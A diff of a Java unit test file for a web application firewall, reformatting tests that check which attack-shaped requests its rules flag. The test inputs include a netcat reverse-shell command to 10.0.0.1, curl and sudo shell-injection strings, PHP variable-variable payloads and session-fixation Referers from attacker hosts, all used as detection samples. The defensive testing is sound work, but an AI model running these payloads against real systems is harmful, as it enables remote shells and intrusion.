@@ -14,10 +14,13 @@ import org.junit.jupiter.api.Test;
  * shape elsewhere that must still be found.
  */
 class MatchContextTest {
-    private static final RequestInspector PL1 = new RequestInspector(WafRules.builtIn(), 1, Severity.INBOUND_THRESHOLD, List.of());
+    private static final RequestInspector PL1 =
+            new RequestInspector(WafRules.builtIn(), 1, Severity.INBOUND_THRESHOLD, List.of());
 
     private static List<Integer> ids(WafRequest request) {
-        return PL1.inspect(request, request.rawPath()).matches().stream().map(RuleMatch::ruleId).toList();
+        return PL1.inspect(request, request.rawPath()).matches().stream()
+                .map(RuleMatch::ruleId)
+                .toList();
     }
 
     private static boolean blocked(WafRequest request) {
@@ -25,7 +28,8 @@ class MatchContextTest {
     }
 
     private static WafRequest get(String query, String... headers) {
-        List<Map.Entry<String, String>> list = new ArrayList<>(List.of(Map.entry("User-Agent", "t/1"), Map.entry("Accept", "*/*")));
+        List<Map.Entry<String, String>> list =
+                new ArrayList<>(List.of(Map.entry("User-Agent", "t/1"), Map.entry("Accept", "*/*")));
         for (int i = 0; i < headers.length; i += 2) {
             String name = headers[i];
             list.removeIf(e -> e.getKey().equalsIgnoreCase(name));
@@ -36,8 +40,16 @@ class MatchContextTest {
 
     private static WafRequest post(String contentType, String body) {
         byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
-        return new WafRequest("POST", "/api/x", null, List.of(Map.entry("User-Agent", "t/1"), Map.entry("Accept", "*/*"),
-                Map.entry("Content-Type", contentType)), bytes, bytes.length);
+        return new WafRequest(
+                "POST",
+                "/api/x",
+                null,
+                List.of(
+                        Map.entry("User-Agent", "t/1"),
+                        Map.entry("Accept", "*/*"),
+                        Map.entry("Content-Type", contentType)),
+                bytes,
+                bytes.length);
     }
 
     private static WafRequest multipartNamed(String name) {
@@ -48,7 +60,8 @@ class MatchContextTest {
 
     @Test
     void inspectWhenMultipartNameHoldsNamedEntitiesThenNoBypassIsReported() {
-        assertFalse(ids(multipartNamed("zzz&acirc;&ecirc;&Ccedil;&oslash;&amp;&apos;zzz")).contains(920120));
+        assertFalse(ids(multipartNamed("zzz&acirc;&ecirc;&Ccedil;&oslash;&amp;&apos;zzz"))
+                .contains(920120));
         assertFalse(ids(multipartNamed("&aring;&uring;zzz")).contains(920120));
     }
 
@@ -61,14 +74,20 @@ class MatchContextTest {
 
     @Test
     void inspectWhenAcceptIsEmptyFromAClientKnownToSendItThenNotReported() {
-        assertFalse(ids(get(null, "Accept", "", "User-Agent", "Agent; Entreprise/6.5.0.177 CFNetwork/758.4.3 Darwin/15.5.0"))
+        assertFalse(ids(get(
+                        null,
+                        "Accept",
+                        "",
+                        "User-Agent",
+                        "Agent; Entreprise/6.5.0.177 CFNetwork/758.4.3 Darwin/15.5.0"))
                 .contains(920311));
         assertTrue(ids(get(null, "Accept", "", "User-Agent", "curl/8.5.0")).contains(920311));
     }
 
     @Test
     void inspectWhenUnicodeEscapeIsInsideAJsonStringThenNotReportedButInAQueryItIs() {
-        assertFalse(ids(post("application/json", "{\"testarg\": \"\\\\u0065val\"}")).contains(920540));
+        assertFalse(
+                ids(post("application/json", "{\"testarg\": \"\\\\u0065val\"}")).contains(920540));
         assertTrue(ids(get("testarg=%5Cu0065val")).contains(920540));
     }
 
@@ -90,27 +109,42 @@ class MatchContextTest {
 
     @Test
     void inspectWhenSessionIdParameterComesFromAPageOfTheSameHostThenNoFixation() {
-        assertFalse(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "http://example.com/another-page")).contains(943120));
-        assertTrue(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "https://attacker.example.net/x")).contains(943120));
+        assertFalse(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "http://example.com/another-page"))
+                .contains(943120));
+        assertTrue(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "https://attacker.example.net/x"))
+                .contains(943120));
         assertTrue(ids(get("jsessionid=abc123", "Host", "example.com")).contains(943120));
-        assertTrue(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "http://example.com@evil.net/")).contains(943120));
+        assertTrue(ids(get("jsessionid=abc123", "Host", "example.com", "Referer", "http://example.com@evil.net/"))
+                .contains(943120));
     }
 
     @Test
     void inspectWhenPhpVariableBracesAreEmptyThenNoVariableVariable() {
-        assertFalse(blocked(get("foo=%24%20%7B%20%7D")), () -> ids(get("foo=%24%20%7B%20%7D")).toString());
+        assertFalse(
+                blocked(get("foo=%24%20%7B%20%7D")),
+                () -> ids(get("foo=%24%20%7B%20%7D")).toString());
         assertTrue(ids(get("x=%24%20%7B%27sys%27.%27tem%27%7D")).contains(933135));
         assertTrue(ids(get("x=%24%7B%20f%20%7D%28%27id%27%29")).contains(933180));
     }
 
     @Test
     void shellWhenAWrapperRunsAKnownProgramThenDetected() {
-        for (String value : List.of("time sh -c whoami", "time bsdtar ", "nohup nc -e /bin/sh 10.0.0.1 4444", "timeout 5 curl http://x/",
-                "sudo -u root id -a", "env /bin/sh")) {
+        for (String value : List.of(
+                "time sh -c whoami",
+                "time bsdtar ",
+                "nohup nc -e /bin/sh 10.0.0.1 4444",
+                "timeout 5 curl http://x/",
+                "sudo -u root id -a",
+                "env /bin/sh")) {
             assertTrue(ShellInjectionDetector.detect(value, false), value);
         }
-        for (String value : List.of("time python tutorial", "sudo systemctl restart nginx fails", "nice cat pictures",
-                "time is money", "env variables in docker", "command line tips")) {
+        for (String value : List.of(
+                "time python tutorial",
+                "sudo systemctl restart nginx fails",
+                "nice cat pictures",
+                "time is money",
+                "env variables in docker",
+                "command line tips")) {
             assertFalse(ShellInjectionDetector.detect(value, true), value);
         }
     }
